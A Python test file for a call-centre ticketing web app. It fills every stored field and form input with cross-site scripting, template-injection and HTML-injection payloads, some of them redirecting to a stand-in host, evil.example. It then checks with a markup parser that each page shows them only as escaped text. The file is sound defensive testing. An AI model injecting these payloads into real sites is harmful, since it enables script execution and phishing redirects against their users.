"""What callers and agents have written, on every page that shows it: words, never markup."""

import json
from html.parser import HTMLParser
from urllib.parse import urlencode

import pytest

from tests.store.told import SITI
from tests.web.reader import Reader
from tests.web.seeded import OPEN, Seeded, seed
from tests.web.visitor import Visitors
from tickets.desk import PostgresDesk
from tickets.rights import Role
from tickets.store import Connection

CORPUS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "</textarea></title></script><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=https://evil.example><button>x",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    '" hx-get="https://evil.example" hx-trigger="load',
    "' data-module='https://evil.example/x.js",
    "<div hx-on:click=alert(1) hx-vals='js:{a:alert(1)}'>",
    "{{ 7 * 7 }}{% raw %}",
    "${7*7} <%= 7*7 %>",
    "\u202e\u2066gnp.exe",
    "&lt;script&gt;&#60;script&#62;",
    "<!--",
    "]]>",
    "\\",
    "%00",
)
ONE = " ".join(CORPUS)
FOREIGN = {"iframe", "base", "object", "embed", "style", "math"}
ADDRESSES = {"href", "src", "action", "formaction", "hx-get", "hx-post", "data-module"}


class Markup(HTMLParser):
    """What a browser makes of a page, and what of that is none of ours."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        bad = tag in FOREIGN or (tag == "script" and "src" not in given)
        bad |= tag == "meta" and "http-equiv" in given
        bad |= any(name.startswith(("on", "hx-on", "srcdoc", "hx-vals")) for name in given)
        places = (given.get(name) or "/" for name in ADDRESSES)
        bad |= not all(place.startswith(("/", "#")) for place in places)
        if bad:
            self.bad.append(self.get_starttag_text() or tag)


def test_the_reader_of_markup_sees_what_is_bad() -> None:
    assert len(Markup(ONE).bad) >= 8
    assert Markup('<p>a</p><a href="/x">&lt;script&gt;</a>').bad == []


@pytest.fixture
async def seeded(desk: PostgresDesk, sql: Connection) -> Seeded:
    """Everything that comes from outside says what it should not."""
    seeded = await seed(desk)
    await sql.execute("UPDATE person SET name = $1", ONE)
    await sql.execute("UPDATE call SET caller = $1, phone = NULL, last_step = $1, flow = $1", ONE)
    await sql.execute("UPDATE call_step SET step = $1, event = 'key', detail = $1", ONE)
    fields = json.dumps({"city": ONE, "question": ONE, "wish": ONE})
    await sql.execute("UPDATE ticket SET fields = $1::jsonb, tags = ARRAY[$2]", fields, ONE)
    await sql.execute("UPDATE ticket_event SET note = $1, actor = $1", ONE)
    await sql.execute("UPDATE callback SET reason = $1 WHERE state = 'human'", ONE)
    await sql.execute(
        "INSERT INTO callback_attempt (id, callback, dialled_at, agent, phone, result, at) "
        "SELECT gen_random_uuid(), id, now(), $1, $1, $1, now() FROM callback",
        ONE,
    )
    await sql.execute(
        "INSERT INTO audit_entry (who, did, subject, address) VALUES ($1, $1, $1, $1)", ONE
    )
    return seeded


async def test_no_page_makes_markup_of_it(
    visitors: Visitors, seeded: Seeded, sql: Connection
) -> None:
    person = await sql.fetchval("SELECT person FROM phone WHERE number = $1", SITI)
    supervisor = Reader(await visitors.signed_in(Role.SUPERVISOR))
    shown = 0
    for path in (
        "/tickets",
        f"/tickets/{OPEN}",
        "/people",
        f"/people/{person}",
        "/callbacks",
        f"/callbacks/{seeded.open_callback}",
        "/calls",
        f"/calls/{seeded.open.id}",
        "/audit",
        "/work/tasks",
        "/wall",
    ):
        page = await supervisor.opens(path)
        assert page.status == 200, path
        assert Markup(page.text).bad == [], path
        shown += "alert(1)" in page.plain
    assert shown >= 7


async def test_what_a_form_or_address_says_comes_back_as_words(
    visitors: Visitors, seeded: Seeded, sql: Connection
) -> None:
    reader = Reader(await visitors.signed_in(Role.SUPERVISOR))
    person = await sql.fetchval("SELECT person FROM phone WHERE number = $1", SITI)
    page = await reader.opens(f"/people/{person}")
    for text in CORPUS:
        page = await reader.sends(
            f"/people/{person}/name", version=page.hidden("version"), name=text
        )
        assert (page.status, page.path) == (200, f"/people/{person}")
        assert page.heading == " ".join(text.split()), text
        assert Markup(page.text).bad == [], text
        for path in ("/people", "/tickets", "/calls", "/audit", "/callbacks"):
            for more in ({}, {"after": text, "view": text, "outcome": text}):
                given = dict.fromkeys(("name", "q", "who", "ticket", "like"), text) | more
                page = await reader.opens(f"{path}?{urlencode(given)}")
                assert page.status in (200, 422), (path, text)
                assert Markup(page.text).bad == [], (path, text)
        page = await reader.opens(f"/people/{person}")
